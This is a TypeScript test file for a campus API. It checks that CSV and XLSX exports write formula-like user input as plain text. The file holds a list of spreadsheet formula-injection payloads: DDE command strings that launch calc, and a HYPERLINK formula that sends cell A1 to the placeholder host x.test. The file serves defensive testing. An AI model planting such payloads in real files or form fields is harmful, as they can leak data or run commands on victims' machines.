import { describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { decodeEnvelope } from '@campus/api-contract';
import { ENCRYPTION_KEY, startTestApi } from '../test/harness.js';
import { insertImportReferences } from '../areas/migrations/test/references.js';
import { until } from '../test/until.js';

/**
 * Every CSV or XLSX file the API writes goes through the one spreadsheet-cell writer: a value someone typed that a
 * spreadsheet would run as a formula comes out as text, whichever file carries it.
 */
const api = await startTestApi();
await api.app.jobs.start();
const admin = await api.signIn('admin@example.edu');
const B = '/core/v1.0';
const call = (method: string, url: string, body?: unknown) => api.call(method, `${B}${url}`, { token: admin, body });
const db = api.database.db;

const PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)', 'x;=1+1', '\t=1+1', '\r=1+1'];
/** What identifies each payload in a file, whatever was put in front of it. */
const MARKS = ['HYPERLINK("http://x.test/?"&A1,"Click")', "cmd|' /C calc'!A0", "2+3+cmd|' /C calc'!A0", 'SUM(1+1)', 'x;', '=1+1'];

/**
 * Reads the CSV as a spreadsheet would and checks every cell: neither it nor a part of it after a `,` or `;` starts
 * a formula (a plain number aside), and every payload is there, as text.
 */
function expectNoFormula(csv: string) {
  const cells = (parse(csv.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][]).flat();
  for (const cell of cells)
    for (const part of cell.split(/[,;]/)) {
      const rest = part.replace(/^ +/, '');
      if (/^[=+\-@\t\r\n]/.test(rest)) expect(rest, cell).toMatch(/^[-+]?\d+(\.\d+)?$/);
    }
  for (const mark of MARKS) expect(cells.some((c) => c.includes(mark)), mark).toBe(true);
}


describe('files the product writes', () => {
  it('a list export writes a formula-like name as text', async () => {
    for (const [i, payload] of PAYLOADS.entries())
      await db.execute(sql`insert into campuses (code, name, is_active, created_at, updated_at) values (${`FX${i}`}, ${payload}, true, now(), now())`);
    const started = await call('POST', '/batches', { type: 'list-export', params: { resource: 'campuses' } });
    expect(started.status, JSON.stringify(started.body)).toBe(202);
    const batch = await until(
      async () => (await call('GET', `/batches/${started.body.data._id}`)).body.data,
      (b) => ['completed', 'failed'].includes(b.state),
    );
    expect(batch.state).toBe('completed');
    const file = (await call('GET', `/batches/${batch._id}/file`)).body.data;
    expectNoFormula(file.content);
  });

  it('the audit trail CSV writes a formula-like activity as text', async () => {
    for (const payload of PAYLOADS) expect((await call('POST', '/audit-trails', { activity: payload })).status).toBeLessThan(300);
    const r = await call('GET', '/reports/audit-trails/export');
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expectNoFormula(r.body.data.csv);
  });

  it('the ticket export writes a formula-like subject as text', async () => {
    const category = await call('POST', '/support-categories-v2', { code: 'FX', name: 'Formulas' });
    expect(category.status, JSON.stringify(category.body)).toBe(201);
    for (const payload of PAYLOADS) {
      const r = await call('POST', '/support/tickets', { subject: payload, body: 'Please help.', requesterName: 'Maria Santos', requesterEmail: 'maria@student.example.edu', categoryV2Id: category.body.data._id });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
    const r = await call('GET', '/support/tickets/export');
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expectNoFormula(r.body.data.csv);
  });

  it("the Data Migration error file writes a rejected row's cells as text, in CSV and in XLSX", async () => {
    await insertImportReferences(db);
    const content = ['studentNumber,names,gender,campusCode,courseCode,birthDate', ...PAYLOADS.map((p, i) => `2026-09${i}0,"${p.replace(/"/g, '""')}, Juan",Robot,MAIN,BSMATH,2007-01-02`)].join('\r\n');
    const boundary = '----campus-test-boundary';
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="resource"\r\n\r\nstudents\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="formulas.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      Buffer.from(content),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const raw = await api.app.inject({ method: 'POST', url: `${B}/migrations/runs`, payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, authorization: `Bearer ${admin}` } });
    expect(raw.statusCode, raw.body).toBe(201);
    const run = (decodeEnvelope(raw.body, ENCRYPTION_KEY) as { data: { _id: string; mapping: Record<string, string> } }).data;
    expect((await call('POST', `/migrations/runs/${run._id}/start`, { mapping: run.mapping, mode: 'skip', dateFormat: 'mm/dd/yyyy' })).status).toBe(202);
    const done = await until(async () => (await call('GET', `/migrations/runs/${run._id}`)).body.data, (r) => ['completed', 'failed'].includes(r.state));
    expect(done.counts.rejected).toBe(PAYLOADS.length);

    const csv = Buffer.from((await call('GET', `/migrations/runs/${run._id}/errors?format=csv`)).body.data.contentBase64, 'base64').toString('utf8');
    expectNoFormula(csv);

    const xlsx = (await call('GET', `/migrations/runs/${run._id}/errors?format=xlsx`)).body.data;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const names: string[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string' && cell.value.endsWith(', Juan')) names.push(cell.value);
      });
    });
    // An XLSX cell is one string: only its start could make it a formula (and XML reads a CR as a line feed).
    expect(names.sort()).toEqual(PAYLOADS.map((p) => (p.startsWith('x;') ? `${p}, Juan` : `'${p.replace('\r', '\n')}, Juan`)).sort());
  });
});
